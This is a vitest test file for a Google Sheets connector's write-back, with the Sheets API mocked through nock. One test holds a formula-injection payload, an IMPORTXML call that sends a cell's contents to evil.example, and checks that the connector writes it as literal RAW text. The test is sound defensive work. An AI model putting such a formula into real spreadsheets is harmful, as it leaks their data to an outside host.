import nock from "nock";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { createSheetsConnector } from "../../../../connectors/sheets/connector.js";
import {
  HEADER,
  liveTransport,
  mockSpreadsheet,
  mockTokenExchange,
  mockValues,
  record,
  resetMocks,
  SHEETS_HOST,
  SPREADSHEET_ID,
  seen,
  testMapping,
} from "./google-mock.js";

const base = `/v4/spreadsheets/${SPREADSHEET_ID}/values`;
const decoded = (uri: string) => decodeURIComponent(uri.split("?")[0] ?? "");

/** The rows of the tab: MKT-7 is on row 4, not where a remembered position would put it. */
const ROWS = [
  ["MKT-1", "Brief", "Sofia", "Done", 46034, 46052],
  ["MKT-3", "Press", "Sofia", "WIP", 46060, 46070],
  ["MKT-7", "Go-to-market campaign", "Sofia", "WIP", 46090, 46112, "QA-9"],
];

function mockLookup(keys: string[][] = ROWS.map((r) => [String(r[0])])): void {
  mockSpreadsheet();
  mockValues("'Plan'!1:1", [HEADER]);
  mockValues("'Plan'!A2:A", keys);
}

beforeEach(resetMocks);
afterEach(() => {
  expect(nock.pendingMocks()).toEqual([]);
  resetMocks();
});

describe("sheets write-back", () => {
  it("writes the new due date as a serial into the row found by key, RAW, and returns the re-read row", async () => {
    mockTokenExchange();
    mockLookup();
    const bodies: unknown[] = [];
    const queries: URLSearchParams[] = [];
    record(
      nock(SHEETS_HOST)
        .put((uri) => decoded(uri) === `${base}/'Plan'!F4:F4`)
        .query(true)
        .reply(200, async (req: Request) => {
          bodies.push(await req.json());
          queries.push(new URL(req.url).searchParams);
          return {
            spreadsheetId: SPREADSHEET_ID,
            updatedRange: "Plan!F4",
            updatedRows: 1,
            updatedColumns: 1,
            updatedCells: 1,
          };
        }),
    );
    mockValues("'Plan'!4:4", [["MKT-7", "Go-to-market campaign", "Sofia", "WIP", 46090, 46132, "QA-9"]]);

    const connector = createSheetsConnector({
      instance: "mkt",
      mapping: testMapping(),
      transport: await liveTransport(),
    });
    const item = await connector.writeBack("MKT-7", { due: "2026-04-20" });

    expect(queries.map((q) => q.get("valueInputOption"))).toEqual(["RAW"]);
    // 2026-04-20 is serial 46132; a number keeps the cell's date format.
    expect(bodies).toEqual([{ range: "'Plan'!F4:F4", majorDimension: "ROWS", values: [[46132]] }]);
    expect(item).toMatchObject({
      kind: "record",
      record: { nativeKey: "MKT-7", due: "2026-04-20", start: "2026-03-09" },
      origin: { location: `spreadsheet ${SPREADSHEET_ID} sheet "Plan" row 4` },
    });
  });

  it("writes formula-looking text literally: RAW, never USER_ENTERED, value unchanged", async () => {
    mockTokenExchange();
    mockLookup();
    const evil = '=IMPORTXML("https://evil.example/?leak="&A1,"//a")';
    const bodies: unknown[] = [];
    const queries: URLSearchParams[] = [];
    record(
      nock(SHEETS_HOST)
        .put((uri) => decoded(uri) === `${base}/'Plan'!B4:C4`)
        .query(true)
        .reply(200, async (req: Request) => {
          bodies.push(await req.json());
          queries.push(new URL(req.url).searchParams);
          return { spreadsheetId: SPREADSHEET_ID, updatedRange: "Plan!B4:C4", updatedCells: 2 };
        }),
    );
    mockValues("'Plan'!4:4", [["MKT-7", evil, "+1 555 0100", "WIP", 46090, 46112]]);

    const connector = createSheetsConnector({
      instance: "mkt",
      mapping: testMapping(),
      transport: await liveTransport(),
    });
    const item = await connector.writeCells("MKT-7", { title: evil, owner: "+1 555 0100" });

    expect(queries.map((q) => q.get("valueInputOption"))).toEqual(["RAW"]);
    expect(bodies).toEqual([
      { range: "'Plan'!B4:C4", majorDimension: "ROWS", values: [[evil, "+1 555 0100"]] },
    ]);
    expect(item).toMatchObject({ kind: "record", record: { title: evil, ownerRaw: "+1 555 0100" } });
  });

  it("writes non-adjacent cells in one atomic batchUpdate, and text dates in the mapping's format", async () => {
    mockTokenExchange();
    mockSpreadsheet();
    // Start and Due are text columns here, with Status between them.
    const header = ["Key", "Task", "Start", "Status", "Due"];
    mockValues("'Plan'!1:1", [header]);
    mockValues("'Plan'!A2:A", [["MKT-7"]]);
    const bodies: unknown[] = [];
    record(
      nock(SHEETS_HOST)
        .post((uri) => decoded(uri) === `${base}:batchUpdate`)
        .reply(200, async (req: Request) => {
          bodies.push(await req.json());
          return { spreadsheetId: SPREADSHEET_ID, totalUpdatedCells: 2, responses: [] };
        }),
    );
    mockValues("'Plan'!2:2", [["MKT-7", "Campaign", "13/04/2026", "In progress", "05/05/2026"]]);
    const mapping = testMapping({
      fields: {
        title: { column: "Task" },
        status: { column: "Status" },
        start: { column: "Start", transform: { type: "date", format: "DD/MM/YYYY" } },
        due: { column: "Due", transform: { type: "date", format: "DD/MM/YYYY" } },
      },
    });
    const connector = createSheetsConnector({ instance: "mkt", mapping, transport: await liveTransport() });
    const item = await connector.writeBack("MKT-7", { start: "2026-04-13", due: "2026-05-05" });
    expect(bodies).toEqual([
      {
        valueInputOption: "RAW",
        data: [
          { range: "'Plan'!C2:C2", majorDimension: "ROWS", values: [["13/04/2026"]] },
          { range: "'Plan'!E2:E2", majorDimension: "ROWS", values: [["05/05/2026"]] },
        ],
      },
    ]);
    expect(item).toMatchObject({ record: { start: "2026-04-13", due: "2026-05-05", status: "in_progress" } });
  });

  it("refuses to write when the key is not in the sheet, or is there twice", async () => {
    mockTokenExchange();
    mockLookup();
    const connector = createSheetsConnector({
      instance: "mkt",
      mapping: testMapping(),
      transport: await liveTransport(),
    });
    await expect(connector.writeBack("MKT-404", { due: "2026-04-20" })).rejects.toMatchObject({
      code: "sheets_key_not_found",
    });

    mockLookup([["MKT-7"], [""], ["MKT-7"]]);
    await expect(connector.writeBack("MKT-7", { due: "2026-04-20" })).rejects.toMatchObject({
      code: "sheets_key_duplicate",
      message: expect.stringContaining("rows 2, 4"),
    });
    expect(seen.filter((s) => s.startsWith("PUT") || s.startsWith("POST /v4"))).toEqual([]);
  });

  it("rejects a date that is not a calendar date before calling Google", async () => {
    const connector = createSheetsConnector({
      instance: "mkt",
      mapping: testMapping(),
      transport: await liveTransport(),
    });
    await expect(connector.writeBack("MKT-7", { due: "2026-02-31" })).rejects.toMatchObject({
      code: "sheets_bad_change",
    });
    expect(seen).toEqual([]);
  });
});
